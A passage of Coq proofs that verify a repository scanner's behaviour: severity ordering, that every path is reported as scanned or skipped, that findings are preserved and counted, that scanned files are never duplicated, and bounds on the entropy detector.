  destruct (sortFindingsBySeverity fs) as [|first rest] eqn:E.
  - exfalso. destruct fs as [|f fs']; [congruence|].
    assert (Hin : In f (sortFindingsBySeverity (f :: fs')))
      by (apply sortFindingsBySeverity_In; left; reflexivity).
    rewrite E in Hin. destruct Hin.
  - exists first, rest. split; [reflexivity|].
    assert (Hfirst : In first fs)
      by (apply sortFindingsBySeverity_In; rewrite E; left; reflexivity).
    pose proof (sortFindingsBySeverity_head fs first rest E) as Hhead.
    destruct (determineOverallRisk_cases fs) as [[Er [f [Hin Hf]]] | [[Er [Hno [f [Hin Hf]]]] | [Er Hall]]];
      rewrite Er.
    + specialize (Hhead f Hin). rewrite Hf in Hhead.
      destruct (riskLevel first); simpl in Hhead; try reflexivity; lia.
    + specialize (Hhead f Hin). rewrite Hf in Hhead.
      pose proof (Hno first Hfirst) as Hnr.
      destruct (riskLevel first); simpl in Hhead; try reflexivity; try congruence; lia.
    + apply Hall. exact Hfirst.
Qed.

Lemma first_finding_has_overall_risk_witness :
  exists first rest,
    findings (createScanResult [greenFinding; colonInPath] [] [] someRepository 0)
    = first :: rest
    /\ riskLevel first
       = overallRisk (createScanResult [greenFinding; colonInPath] [] [] someRepository 0).
Proof.
  apply (first_finding_has_overall_risk [greenFinding; colonInPath]). discriminate.
Defined.

(** ** The repository scan *)

Module EngineFlow.
Import RiskClassifierFacts RiskFlow EngineFacts.

Lemma scanFile_unread : forall scanners file config,
  wasRead file = false -> scanFile scanners file config = Some [].
Proof.
  intros scanners file config H. unfold scanFile, wasRead in *.
  destruct (exists_ file); simpl in *; [|reflexivity].
  apply negb_false_iff in H. rewrite H. reflexivity.
Qed.

(** The loop of [scanRepository] and the loop of [scanFiles] collect the same
    findings: a file that was not read adds none. *)
Lemma visitFiles_scanAll : forall scanners config files,
  match scanAll scanners files config with
  | Some all =>
      exists v, visitFiles scanners files config = Some v
                /\ concat (visitedFindings v) = concat all
  | None => visitFiles scanners files config = None
  end.
Proof.
  intros scanners config. induction files as [|file rest IH]; simpl.
  - eexists. split; reflexivity.
  - change (exists_ file && negb (length (content file) =? 0)) with (wasRead file).
    destruct (wasRead file) eqn:E.
    + destruct (scanFile scanners file config) as [r|]; [|reflexivity]. cbn [bind].
      destruct (scanAll scanners rest config) as [all|]; cbn [bind].
      * destruct IH as [v [Hv Hc]]. rewrite Hv. cbn [bind]. eexists. split; [reflexivity|].
        simpl. rewrite Hc. reflexivity.
      * rewrite IH. reflexivity.
    + rewrite (scanFile_unread scanners file config E). cbn [bind].
      destruct (scanAll scanners rest config) as [all|]; cbn [bind].
      * destruct IH as [v [Hv Hc]]. rewrite Hv. cbn [bind]. eexists. split; [reflexivity|].
        simpl. exact Hc.
      * rewrite IH. reflexivity.
Qed.

Lemma visitFiles_findings : forall scanners config files v file,
  visitFiles scanners files config = Some v ->
  In file files -> wasRead file = true ->
  exists fs, scanFile scanners file config = Some fs /\ In fs (visitedFindings v).
Proof.
  intros scanners config. induction files as [|f rest IH]; intros v file Hv Hin Hread;
    [destruct Hin|].
  simpl in Hv.
  change (exists_ f && negb (length (content f) =? 0)) with (wasRead f) in Hv.
  destruct (wasRead f) eqn:E.
  - destruct (scanFile scanners f config) as [r|] eqn:Er; [|discriminate].
    destruct (visitFiles scanners rest config) as [v'|]; [|discriminate].
    cbn [bind] in Hv. inversion Hv; subst. simpl.
    destruct Hin as [Hin | Hin].
    + subst f. exists r. split; [exact Er | left; reflexivity].
    + destruct (IH v' file eq_refl Hin Hread) as [fs [Hfs Hin']].
      exists fs. split; [exact Hfs | right; exact Hin'].
  - destruct (visitFiles scanners rest config) as [v'|]; [|discriminate].
    cbn [bind] in Hv. inversion Hv; subst. simpl.
    destruct Hin as [Hin | Hin]; [subst f; congruence|].
    exact (IH v' file eq_refl Hin Hread).
Qed.

Lemma filter_partition_perm : forall (A : Type) (p : A -> bool) (l : list A),
  Permutation (filter p l ++ filter (fun x => negb (p x)) l) l.
Proof.
  intros A p. induction l as [|x l IH]; simpl; [constructor|].
  destruct (p x); simpl.
  - apply perm_skip. exact IH.
  - apply Permutation_sym. apply Permutation_cons_app. apply Permutation_sym. exact IH.
Qed.

End EngineFlow.
Import EngineFlow RiskFlow RiskClassifierFacts EngineFacts.

(** Every requested path is reported once: the paths of the files that were
    read, in their order, as scanned, the others as skipped. *)
Theorem every_path_is_scanned_or_skipped : forall scanners files repository config now r,
  scanRepository scanners files repository config now = Some r ->
  scannedFiles r = readPaths files
  /\ skippedFiles r = unreadPaths files
  /\ Permutation (scannedFiles r ++ skippedFiles r) (map path files)
  /\ length (scannedFiles r) + length (skippedFiles r) = length files.
Proof.
  intros scanners files repository config now r Hr.
  destruct (scanRepository_shape _ _ _ _ _ _ Hr) as [fs Hfs]. subst r. simpl.
  assert (Hperm : Permutation (readPaths files ++ unreadPaths files) (map path files)).
  { unfold readPaths, unreadPaths. rewrite <- map_app. apply Permutation_map.
    apply filter_partition_perm. }
  split; [reflexivity|]. split; [reflexivity|]. split; [exact Hperm|].
  pose proof (Permutation_length Hperm) as HL.
  rewrite length_app, (length_map path files) in HL. exact HL.
Qed.

Lemma every_path_is_scanned_or_skipped_witness :
  exists r,
    scanRepository silentScanners [readManifest; missingManifest] someRepository
                   defaultConfig 0 = Some r
    /\ scannedFiles r = [lit "Cargo.toml"] /\ skippedFiles r = [lit "package.json"].
Proof.
  assert (Hret : scannersReturn silentScanners [readManifest; missingManifest]).
  { intros file [Hf | [Hf | []]] _; subst file; discriminate. }
  destruct (scanRepository_returns silentScanners [readManifest; missingManifest]
              someRepository defaultConfig 0 Hret) as [r Hr].
  exists r. split; [exact Hr|].
  destruct (every_path_is_scanned_or_skipped _ _ _ _ _ _ Hr) as [Hs [Hk _]].
  split; [exact Hs | exact Hk].
Defined.

(** No finding of a scanned file is lost on the way to the result: the result
    holds a finding with the same key and severity, and the overall risk is
    at least as severe. *)
Theorem scanRepository_keeps_findings :
  forall scanners files repository config now r file fs f,
    scanRepository scanners files repository config now = Some r ->
    In file files -> wasRead file = true ->
    scanFile scanners file config = Some fs -> In f fs ->
    (exists g, In g (findings r) /\ findingKey g = findingKey f
               /\ riskLevel g = riskLevel f)
    /\ severityRank (riskLevel f) <= severityRank (overallRisk r).
Proof.
  intros scanners files repository config now r file fs f Hr Hfile Hread Hfs Hf.
  unfold scanRepository in Hr.
  destruct (visitFiles scanners files config) as [v|] eqn:Hv; [|discriminate].
  cbn [bind] in Hr.
  destruct (visitFiles_findings scanners config files v file Hv Hfile Hread)
    as [fs' [Hfs' Hin]].
  assert (fs' = fs) by congruence. subst fs'.
  assert (Hall : In f (concat (visitedFindings v))).
  { apply in_concat. exists fs. split; assumption. }
  destruct (deduplicateFindings_represents _ f Hall) as [g [Hg Hk]].
  set (extra := if (length (visitedScanned v) =? 0) && (0 <? length (visitedSkipped v))
                then aggregateFindings (visitedFindings v)
                     ++ [unableToFetchFinding repository (visitedSkipped v)]
                else if (0 <? length (visitedSkipped v)) && (0 <? length (visitedScanned v))
                then aggregateFindings (visitedFindings v)
                     ++ [partialScanFinding repository (visitedSkipped v)]
                else aggregateFindings (visitedFindings v)) in Hr.
  assert (Hextra : In g extra).
  { unfold extra, aggregateFindings.
    destruct ((length (visitedScanned v) =? 0) && (0 <? length (visitedSkipped v)));
      [apply in_or_app; left; exact Hg|].
    destruct ((0 <? length (visitedSkipped v)) && (0 <? length (visitedScanned v)));
      [apply in_or_app; left; exact Hg | exact Hg]. }
  inversion Hr; subst r. simpl.
  pose proof (findingKey_riskLevel g f Hk) as Hlevel.
  split.
  - exists g. split; [apply sortFindingsBySeverity_In; exact Hextra|].
    split; [exact Hk | exact Hlevel].
  - rewrite <- Hlevel.
    destruct (determineOverallRisk_cases extra) as [[Er _] | [[Er [Hno _]] | [Er Hgreen]]];
      rewrite Er.
    + destruct (riskLevel g); simpl; lia.
    + pose proof (Hno g Hextra). destruct (riskLevel g); simpl; try lia. congruence.
    + rewrite (Hgreen g Hextra). simpl. lia.
Qed.

Lemma scanRepository_keeps_findings_witness :
  exists r,
    scanRepository silentScanners [hiddenSpaceFile] someRepository noEntropyConfig 0 = Some r
    /\ overallRisk r = RED.
Proof.
  assert (Hret : scannersReturn silentScanners [hiddenSpaceFile]).
  { intros file [Hf | []] _; subst file; discriminate. }
  destruct (scanRepository_returns silentScanners [hiddenSpaceFile] someRepository
              noEntropyConfig 0 Hret) as [r Hr].
  exists r. split; [exact Hr|].
  assert (Hfile : scanFile silentScanners hiddenSpaceFile noEntropyConfig
                  = Some (Homoglyph.scanForHomoglyphs (content hiddenSpaceFile)
                            (path hiddenSpaceFile)))
    by (vm_compute; reflexivity).
  assert (Hin : exists f, In f (Homoglyph.scanForHomoglyphs (content hiddenSpaceFile)
                                  (path hiddenSpaceFile))
                          /\ riskLevel f = RED).
  { eexists. split; [vm_compute; left; reflexivity | reflexivity]. }
  destruct Hin as [f [Hf Hred]].
  destruct (scanRepository_keeps_findings silentScanners [hiddenSpaceFile] someRepository
              noEntropyConfig 0 r hiddenSpaceFile _ f Hr (or_introl eq_refl) eq_refl Hfile Hf)
    as [_ Hrank].
  rewrite Hred in Hrank. destruct (overallRisk r); simpl in Hrank; try reflexivity; lia.
Defined.

(** [scanRepository] reports what [scanFiles] reports for the same files,
    with the note about files that could not be fetched, and it returns
    exactly when [scanFiles] does. *)
Theorem scanRepository_is_scanFiles_with_note :
  forall scanners files repository config now,
    scanRepository scanners files repository config now
    = (fs <- scanFiles scanners files config ;;
       Some (createScanResult (fs ++ fetchNote repository files)
               (readPaths files) (unreadPaths files) repository now)).
Proof.
  intros scanners files repository config now. unfold scanRepository, scanFiles.
  pose proof (visitFiles_scanAll scanners config files) as H.
  destruct (scanAll scanners files config) as [all|]; cbn [bind].
  - destruct H as [v [Hv Hc]]. rewrite Hv. cbn [bind].
    destruct (visitFiles_paths scanners config files v Hv) as [Hsc Hsk].
    unfold aggregateFindings, fetchNote, readPaths, unreadPaths.
    rewrite Hc, Hsc, Hsk. f_equal. f_equal.
    destruct ((length (map path (filter wasRead files)) =? 0)
              && (0 <? length (map path (filter (fun f => negb (wasRead f)) files))));
      [reflexivity|].
    destruct ((0 <? length (map path (filter (fun f => negb (wasRead f)) files)))
              && (0 <? length (map path (filter wasRead files))));
      [reflexivity | rewrite app_nil_r; reflexivity].
  - rewrite H. reflexivity.
Qed.

(** ** The files to scan *)

Module FilePathFacts.

Lemma startsWith_app : forall p s, startsWith (p ++ s) p = true.
Proof.
  induction p as [|c p IH]; intro s; [destruct s; reflexivity|].
  simpl. rewrite N.eqb_refl. apply IH.
Qed.

Lemma startsWith_split : forall s p, startsWith s p = true -> exists t, s = p ++ t.
Proof.
  intros s p. revert s. induction p as [|c p IH]; intros s H.
  - exists s. reflexivity.
  - destruct s as [|x s]; [discriminate|]. simpl in H.
    apply andb_true_iff in H. destruct H as [Hx Hs]. apply N.eqb_eq in Hx. subst x.
    destruct (IH s Hs) as [t Ht]. exists t. rewrite Ht. reflexivity.
Qed.

Lemma startsWith_includes : forall s p, startsWith s p = true -> includes s p = true.
Proof. intros s p H. destruct s; simpl in *; rewrite H; reflexivity. Qed.

Lemma endsWith_split : forall s p, endsWith s p = true -> exists t, s = t ++ p.
Proof.
  intros s p H. unfold endsWith in H. apply startsWith_split in H.
  destruct H as [t Ht]. exists (rev t).
  rewrite <- (rev_involutive s), Ht, rev_app_distr, rev_involutive. reflexivity.
Qed.

Lemma endsWith_app : forall t p, endsWith (t ++ p) p = true.
Proof. intros t p. unfold endsWith. rewrite rev_app_distr. apply startsWith_app. Qed.

(** A path ends with one suffix only, unless a suffix ends with the other. *)
Lemma endsWith_exclusive : forall s p q,
  endsWith s p = true -> endsWith s q = true ->
  startsWith (rev p) (rev q) = true \/ startsWith (rev q) (rev p) = true.
Proof.
  intros s p q. unfold endsWith. generalize (rev s) (rev p) (rev q). clear.
  induction l as [|x l IH]; intros a b Ha Hb.
  - destruct a; [|discriminate]. right. destruct b; reflexivity.
  - destruct a as [|y a]; [right; destruct b; reflexivity|].
    destruct b as [|z b]; [left; reflexivity|].
    simpl in Ha, Hb. apply andb_true_iff in Ha, Hb.
    destruct Ha as [Hy Ha], Hb as [Hz Hb]. apply N.eqb_eq in Hy, Hz. subst y z.
    simpl. rewrite N.eqb_refl. simpl. apply IH; assumption.
Qed.

Lemma hasFile_In : forall tree p, hasFile tree p = true <-> In p tree.
Proof. intros. apply arrayIncludes_In. Qed.

Lemma workflow_In : forall tree p,
  In p (getWorkflowFiles tree)
  <-> In p tree /\ startsWith p (lit ".github/workflows/") = true
      /\ (endsWith p (lit ".yml") = true \/ endsWith p (lit ".yaml") = true).
Proof.
  intros tree p. unfold getWorkflowFiles. rewrite filter_In, andb_true_iff, orb_true_iff.
  tauto.
Qed.

(** Membership in the list [getFilesToScan] builds. *)
Lemma getFilesToScan_In : forall tree p,
  In p (getFilesToScan tree)
  <-> (p = VSCODE_TASKS /\ hasFolder tree (lit ".vscode") = true)
      \/ (p = NPM_PACKAGE /\ In p tree)
      \/ (p = PYTHON_SETUP /\ In p tree)
      \/ (p = PYTHON_PYPROJECT /\ In p tree)
      \/ (p = RUST_CARGO /\ In p tree)
      \/ ((p = RUST_CARGO_CONFIG \/ p = RUST_CARGO_CONFIG_ALT)
          /\ hasFolder tree (lit ".cargo") = true)
      \/ (In p (getWorkflowFiles tree) /\ hasFolder tree (lit ".github/workflows") = true).
Proof.
  intros tree p. unfold getFilesToScan.
  fold (getWorkflowFiles tree).
  rewrite <- !(hasFile_In tree).
  destruct (hasFolder tree (lit ".vscode")) eqn:E1;
  destruct (hasFile tree NPM_PACKAGE) eqn:E2;
  destruct (hasFile tree PYTHON_SETUP) eqn:E3;
  destruct (hasFile tree PYTHON_PYPROJECT) eqn:E4;
  destruct (hasFile tree RUST_CARGO) eqn:E5;
  destruct (hasFolder tree (lit ".cargo")) eqn:E6;
  destruct (hasFolder tree (lit ".github/workflows")) eqn:E7;
  rewrite ?orb_true_r; cbn [app];
  rewrite ?in_app_iff; cbn [In];
  split; intro H;
  repeat match goal with
         | H : _ \/ _ |- _ => destruct H
         | H : _ /\ _ |- _ => destruct H
         | H : False |- _ => destruct H
         | H : false = true |- _ => discriminate H
         end; subst; try rewrite E2 in *; try rewrite E3 in *; try rewrite E4 in *;
         try rewrite E5 in *; try discriminate; tauto.
Qed.


End FilePathFacts.
Import FilePathFacts.



Module FolderFacts.

Lemma removelast_slice : forall (s : jsstring) c,
  slice (s ++ [c]) 0 (length (s ++ [c]) - 1) = s.
Proof.
  intros s c. unfold slice. rewrite length_app. simpl.
  replace (length s + 1 - 1 - 0) with (length s) by lia.
  rewrite firstn_app, firstn_all, Nat.sub_diag. simpl. apply app_nil_r.
Qed.

(** A folder is looked for in the same way with and without a slash at its
    end. *)
Lemma hasFolder_slash : forall tree folder,
  endsWith folder (lit "/") = false ->
  hasFolder tree (folder ++ lit "/") = hasFolder tree folder.
Proof.
  intros tree folder H. unfold hasFolder. rewrite H, endsWith_app.
  change (lit "/") with [47%N]. rewrite removelast_slice.
  induction tree as [|file tree IH]; [reflexivity|].
  cbn [existsb]. rewrite IH. f_equal.
  destruct (str_eqb file (folder ++ [47%N])) eqn:E.
  - apply str_eqb_eq in E. subst file.
    pose proof (startsWith_app (folder ++ [47%N]) []) as Hs. rewrite app_nil_r in Hs.
    rewrite Hs, !orb_true_r. reflexivity.
  - destruct (str_eqb file folder); [rewrite !orb_true_r|]; reflexivity.
Qed.

Lemma workflow_hasFolder : forall tree p,
  In p (getWorkflowFiles tree) -> hasFolder tree (lit ".github/workflows") = true.
Proof.
  intros tree p H. apply workflow_In in H. destruct H as [Hin [Hs _]].
  unfold hasFolder. apply existsb_exists. exists p. split; [exact Hin|].
  change (if endsWith (lit ".github/workflows") (lit "/") then lit ".github/workflows"
          else lit ".github/workflows" ++ lit "/") with (lit ".github/workflows/").
  rewrite Hs. rewrite orb_true_r. reflexivity.
Qed.

End FolderFacts.
Import FolderFacts.

(** [needsScanning] says yes whenever [getFilesToScan] asks for a file; it
    also says yes for a workflows folder that holds no workflow file, the
    one case in which nothing is asked for. *)
Theorem needsScanning_covers_getFilesToScan : forall fileTree,
  needsScanning fileTree = true
  <-> getFilesToScan fileTree <> []
      \/ hasFolder fileTree (lit ".github/workflows") = true.
Proof.
  intro tree.
  assert (Hv : hasFolder tree (lit ".vscode/") = hasFolder tree (lit ".vscode"))
    by (apply (hasFolder_slash tree (lit ".vscode")); reflexivity).
  assert (Hc : hasFolder tree (lit ".cargo/") = hasFolder tree (lit ".cargo"))
    by (apply (hasFolder_slash tree (lit ".cargo")); reflexivity).
  assert (Hg : hasFolder tree (lit ".github/workflows/")
               = hasFolder tree (lit ".github/workflows"))
    by (apply (hasFolder_slash tree (lit ".github/workflows")); reflexivity).
  assert (Hmem : forall p, In p (getFilesToScan tree) -> getFilesToScan tree <> [])
    by (intros p Hp E; rewrite E in Hp; destruct Hp).
  unfold needsScanning, SCAN_TRIGGER_FOLDERS. cbn [existsb]. rewrite Hv, Hc, Hg.
  rewrite orb_false_r, !orb_true_iff. split.
  - intros [[Hf | [Hf | Hf]] | [[[Hf | Hf] | Hf] | Hf]].
    + left. apply (Hmem VSCODE_TASKS). apply getFilesToScan_In. left. split; [reflexivity | exact Hf].
    + left. apply (Hmem RUST_CARGO_CONFIG). apply getFilesToScan_In.
      do 5 right. left. split; [left; reflexivity | exact Hf].
    + right. exact Hf.
    + left. apply (Hmem NPM_PACKAGE). apply getFilesToScan_In.
      right. left. split; [reflexivity | apply hasFile_In; exact Hf].
    + left. apply (Hmem PYTHON_SETUP). apply getFilesToScan_In.
      do 2 right. left. split; [reflexivity | apply hasFile_In; exact Hf].
    + left. apply (Hmem PYTHON_PYPROJECT). apply getFilesToScan_In.
      do 3 right. left. split; [reflexivity | apply hasFile_In; exact Hf].
    + left. apply (Hmem RUST_CARGO). apply getFilesToScan_In.
      do 4 right. left. split; [reflexivity | apply hasFile_In; exact Hf].
  - intros [Hne | Hf]; [|left; right; right; exact Hf].
    destruct (getFilesToScan tree) as [|p rest] eqn:E; [congruence|].
    assert (Hp : In p (getFilesToScan tree)) by (rewrite E; left; reflexivity).
    apply getFilesToScan_In in Hp.
    destruct Hp as [[_ Hf] | [[Hp Hin] | [[Hp Hin] | [[Hp Hin] | [[Hp Hin] | [[_ Hf] | [_ Hf]]]]]]].
    + left. left. exact Hf.
    + right. left. left. left. apply hasFile_In. rewrite <- Hp. exact Hin.
    + right. left. left. right. apply hasFile_In. rewrite <- Hp. exact Hin.
    + right. left. right. apply hasFile_In. rewrite <- Hp. exact Hin.
    + right. right. apply hasFile_In. rewrite <- Hp. exact Hin.
    + left. right. left. exact Hf.
    + left. right. right. exact Hf.
Qed.

Module FilePathNoDup.

Lemma NoDup_app_disjoint : forall (A : Type) (a b : list A),
  NoDup a -> NoDup b -> (forall x, In x a -> In x b -> False) -> NoDup (a ++ b).
Proof.
  intros A. induction a as [|x a IH]; intros b Ha Hb Hd; [exact Hb|].
  simpl. inversion Ha; subst. constructor.
  - intro Hin. apply in_app_or in Hin. destruct Hin as [Hin | Hin]; [contradiction|].
    apply (Hd x); [left; reflexivity | exact Hin].
  - apply IH; [assumption | assumption |].
    intros y Hy Hy'. apply (Hd y); [right; exact Hy | exact Hy'].
Qed.

Lemma getFilesToScan_shape : forall tree,
  exists keep : jsstring -> bool,
    getFilesToScan tree
    = filter keep fixedPaths
      ++ (if hasFolder tree (lit ".github/workflows") then getWorkflowFiles tree else []).
Proof.
  intro tree.
  exists (fun p =>
            (str_eqb p VSCODE_TASKS && hasFolder tree (lit ".vscode"))
            || (str_eqb p NPM_PACKAGE && hasFile tree NPM_PACKAGE)
            || (str_eqb p PYTHON_SETUP && hasFile tree PYTHON_SETUP)
            || (str_eqb p PYTHON_PYPROJECT && hasFile tree PYTHON_PYPROJECT)
            || (str_eqb p RUST_CARGO && hasFile tree RUST_CARGO)
            || ((str_eqb p RUST_CARGO_CONFIG || str_eqb p RUST_CARGO_CONFIG_ALT)
                && hasFolder tree (lit ".cargo"))).
  unfold getFilesToScan. fold (getWorkflowFiles tree).
  destruct (hasFolder tree (lit ".vscode"));
  destruct (hasFile tree NPM_PACKAGE);
  destruct (hasFile tree PYTHON_SETUP);
  destruct (hasFile tree PYTHON_PYPROJECT);
  destruct (hasFile tree RUST_CARGO);
  destruct (hasFolder tree (lit ".cargo"));
  destruct (hasFolder tree (lit ".github/workflows"));
  rewrite ?orb_true_r; rewrite ?app_nil_r; reflexivity.
Qed.

End FilePathNoDup.
Import FilePathNoDup.

(** No file is asked for twice, when the tree lists no path twice. *)
Theorem getFilesToScan_NoDup : forall fileTree,
  NoDup fileTree -> NoDup (getFilesToScan fileTree).
Proof.
  intros tree Hnd. destruct (getFilesToScan_shape tree) as [keep Hshape]. rewrite Hshape.
  apply NoDup_app_disjoint.
  - apply NoDup_filter. unfold fixedPaths.
    repeat (constructor; [cbn [In]; intro H; repeat (destruct H as [H | H]; [discriminate H|]);
                          exact H|]).
    constructor.
  - destruct (hasFolder tree (lit ".github/workflows")); [|constructor].
    apply NoDup_filter. exact Hnd.
  - intros p Hfixed Hw.
    destruct (hasFolder tree (lit ".github/workflows")); [|destruct Hw].
    apply workflow_In in Hw. destruct Hw as [_ [Hs _]].
    apply filter_In in Hfixed. destruct Hfixed as [Hfixed _].
    unfold fixedPaths in Hfixed. cbn [In] in Hfixed.
    repeat (destruct Hfixed as [Hfixed | Hfixed]; [subst p; discriminate Hs|]).
    exact Hfixed.
Qed.

Lemma getFilesToScan_NoDup_witness :
  NoDup (getFilesToScan [lit "package.json"; lit ".vscode/settings.json"]).
Proof.
  apply getFilesToScan_NoDup.
  constructor; [intros [H | []]; discriminate H|]. constructor; [intros []|constructor].
Defined.

(** ** Counting findings, and bounds on the entropy *)

Module CountFacts.
Import Entropy EntropyCounts.

(** One more character adds one to the sum of the counts. *)
Lemma countChar_sum : forall m ch,
  list_sum (mapValues (countChar m ch)) = list_sum (mapValues m) + 1.
Proof.
  unfold countChar, mapValues. induction m as [|[k v] m IH]; intro ch.
  - reflexivity.
  - cbn [mapGet mapSet]. destruct (str_eqb ch k) eqn:E.
    + simpl. lia.
    + simpl. specialize (IH ch). simpl in IH. lia.
Qed.

Lemma fold_countChar_sum : forall cps m,
  list_sum (mapValues (fold_left countChar cps m)) = list_sum (mapValues m) + length cps.
Proof.
  induction cps as [|ch cps IH]; intro m; simpl; [lia|].
  rewrite IH, countChar_sum. lia.
Qed.

Lemma CountsOf_mapGet : forall cps m k,
  CountsOf cps m ->
  mapGet m k = if occurrences cps k =? 0 then None else Some (occurrences cps k).
Proof.
  intros cps m k [Hnd Hin].
  destruct (mapGet m k) as [v|] eqn:G.
  - apply mapGet_Some_In in G. apply Hin in G. destruct G as [Hv Hpos]. subst v.
    destruct (occurrences cps k =? 0) eqn:E; [apply Nat.eqb_eq in E; lia | reflexivity].
  - destruct (occurrences cps k =? 0) eqn:E; [reflexivity|].
    apply Nat.eqb_neq in E. exfalso.
    apply (mapGet_None_notin m k (occurrences cps k) G). apply Hin. split; [reflexivity | lia].
Qed.

Lemma CountsOf_nil : CountsOf [] [].
Proof.
  split; [constructor|]. intros k v. split; [intros [] | intros [Hv Hpos]].
  unfold occurrences in Hv. simpl in Hv. lia.
Qed.

Lemma FindingCategory_toString_inj : forall a b,
  FindingCategory_toString a = FindingCategory_toString b -> a = b.
Proof. intros [] [] H; try reflexivity; discriminate H. Qed.

Lemma getFindingsSummary_fold : forall findings,
  getFindingsSummary findings
  = fold_left countChar (map (fun f => FindingCategory_toString (category f)) findings) [].
Proof.
  intro findings. unfold getFindingsSummary. generalize (@nil (jsstring * nat)).
  induction findings as [|f findings IH]; intro m; [reflexivity|].
  cbn [fold_left map]. rewrite IH. reflexivity.
Qed.

Lemma occurrences_category : forall findings c,
  occurrences (map (fun f => FindingCategory_toString (category f)) findings)
              (FindingCategory_toString c)
  = categoryCount c findings.
Proof.
  intros findings c. unfold occurrences, categoryCount, FindingCategory_eqb.
  induction findings as [|f findings IH]; [reflexivity|].
  cbn [map count_occ filter].
  destruct (list_eq_dec N.eq_dec (FindingCategory_toString (category f))
              (FindingCategory_toString c)) as [Heq | Hne].
  - rewrite Heq, str_eqb_refl. simpl. rewrite IH. reflexivity.
  - destruct (str_eqb _ _) eqn:E; [apply str_eqb_eq in E; contradiction | exact IH].
Qed.

End CountFacts.
Import CountFacts.

(** [getFindingsSummary] counts the findings of each category: a category
    with no finding has no entry, every other one has its number of
    findings, no category has two entries, and the counts add up to the
    number of findings. *)
Theorem getFindingsSummary_counts : forall findings,
  (forall c,
     Entropy.mapGet (getFindingsSummary findings) (FindingCategory_toString c)
     = if categoryCount c findings =? 0 then None else Some (categoryCount c findings))
  /\ NoDup (map fst (getFindingsSummary findings))
  /\ list_sum (Entropy.mapValues (getFindingsSummary findings)) = length findings.
Proof.
  intro findings. rewrite getFindingsSummary_fold.
  pose proof (EntropyCounts.fold_countChar_CountsOf
                (map (fun f => FindingCategory_toString (category f)) findings) [] []
                CountsOf_nil) as Hc.
  cbn [app] in Hc. split; [|split].
  - intro c. rewrite (CountsOf_mapGet _ _ _ Hc), occurrences_category. reflexivity.
  - exact (proj1 Hc).
  - rewrite fold_countChar_sum, length_map. reflexivity.
Qed.

Module EntropyBound.
Import Entropy EntropyValues EntropyCounts.
Local Open Scope R_scope.

(** Counts between 1 and [len] add at most [count / len * log2 len] each. *)
Lemma entropySum_le : forall len counts start,
  (forall c, In c counts -> (0 < c <= len)%nat) ->
  entropySum len counts start
  <= start + INR (list_sum counts) / INR len * log2 (INR len).
Proof.
  intros len. induction counts as [|c counts IH]; intros start H.
  - unfold entropySum. simpl. lra.
  - unfold entropySum in *. cbn [fold_left].
    change (list_sum (c :: counts)) with (c + list_sum counts)%nat.
    destruct (H c (or_introl eq_refl)) as [Hpos Hle].
    assert (Hc : 1 <= INR c) by (change 1 with (INR 1); apply le_INR; lia).
    assert (Hlen : 0 < INR len) by (apply lt_0_INR; lia).
    assert (Hcl : INR c <= INR len) by (apply le_INR; exact Hle).
    assert (Hinv : 0 < / INR len) by (apply Rinv_0_lt_compat; exact Hlen).
    assert (Hlow : - log2 (INR len) <= log2 (INR c / INR len)).
    { rewrite <- log2_Rinv by exact Hlen. unfold log2.
      pose proof ln2_pos as H2.
      assert (Hln : ln (/ INR len) <= ln (INR c / INR len)).
      { apply ln_le_mono; [exact Hinv|]. unfold Rdiv. nra. }
      unfold Rdiv. assert (0 < / ln 2) by (apply Rinv_0_lt_compat; exact H2). nra. }
    assert (Hp : 0 < INR c / INR len) by (apply Rdiv_lt_0_compat; lra).
    eapply Rle_trans; [apply IH; intros c' Hc'; apply H; right; exact Hc'|].
    rewrite plus_INR. unfold Rdiv in *. nra.
Qed.

Lemma log2_nonneg : forall x, 1 <= x -> 0 <= log2 x.
Proof.
  intros x Hx. unfold log2. pose proof ln2_pos as H2.
  assert (Hln : ln 1 <= ln x) by (apply ln_le_mono; lra). rewrite ln_1 in Hln.
  unfold Rdiv. assert (0 < / ln 2) by (apply Rinv_0_lt_compat; exact H2). nra.
Qed.

Lemma log2_le_mono : forall x y, 0 < x -> x <= y -> log2 x <= log2 y.
Proof.
  intros x y Hx Hxy. unfold log2. pose proof ln2_pos as H2.
  pose proof (ln_le_mono x y Hx Hxy).
  unfold Rdiv. assert (0 < / ln 2) by (apply Rinv_0_lt_compat; exact H2). nra.
Qed.

Lemma calculateEntropy_le : forall data,
  data <> [] -> calculateEntropy data <= log2 (INR (length data)).
Proof.
  intros data Hne. rewrite calculateEntropy_unfold by exact Hne.
  destruct (countFrequencies_CountsOf data) as [_ Hcounts].
  assert (Hlen : (0 < length data)%nat) by (destruct data; [congruence | simpl; lia]).
  eapply Rle_trans.
  - apply entropySum_le. intros n Hn. unfold mapValues in Hn. apply in_map_iff in Hn.
    destruct Hn as [[k v] [Hv Hin]]. simpl in Hv. subst v.
    apply Hcounts in Hin. destruct Hin as [Hn Hpos]. split; [exact Hpos|].
    rewrite Hn. unfold occurrences.
    eapply Nat.le_trans; [apply count_occ_bound | apply codePoints_length].
  - assert (Hsum : list_sum (mapValues (countFrequencies data)) = length (codePoints data)).
    { unfold countFrequencies.
      change (fun frequencies char =>
                mapSet frequencies char (orZero (mapGet frequencies char) + 1))
        with countChar.
      rewrite CountFacts.fold_countChar_sum. reflexivity. }
    rewrite Hsum.
    assert (HL : 0 < INR (length data)) by (apply lt_0_INR; exact Hlen).
    assert (Hcp : INR (length (codePoints data)) <= INR (length data))
      by (apply le_INR; apply codePoints_length).
    assert (H0 : 0 <= INR (length (codePoints data))) by apply pos_INR.
    assert (Hlog : 0 <= log2 (INR (length data))).
    { apply log2_nonneg. change 1 with (INR 1). apply le_INR. lia. }
    assert (Hq : INR (length (codePoints data)) / INR (length data) <= 1).
    { apply (Rmult_le_reg_r (INR (length data))); [exact HL|].
      unfold Rdiv. rewrite Rmult_assoc, Rinv_l by lra. lra. }
    nra.
Qed.

Lemma log2_45 : log2 45 < WARNING.
Proof.
  unfold WARNING. pose proof (log2_upper 45 11 2) as H.
  rewrite !INR_IZR_INZ in H.
  change (Z.of_nat 11) with 11%Z in H. change (Z.of_nat 2) with 2%Z in H.
  assert (Hlt : log2 45 < 11 / 2) by (apply H; [lra | lia | simpl; lra]).
  lra.
Qed.

End EntropyBound.



(** A text of fewer than 100 units gets at most one entropy finding, for the
    text as a whole, and a text of at most 45 units gets none: its entropy
    stays below 5.5. *)
Theorem short_text_entropy_findings : forall content path,
  (length content < 100 ->
   exists fs, Entropy.scanForHighEntropyDefault content path = Some fs /\ length fs <= 1)
  /\ (length content <= 45 -> Entropy.scanForHighEntropyDefault content path = Some []).
Proof.
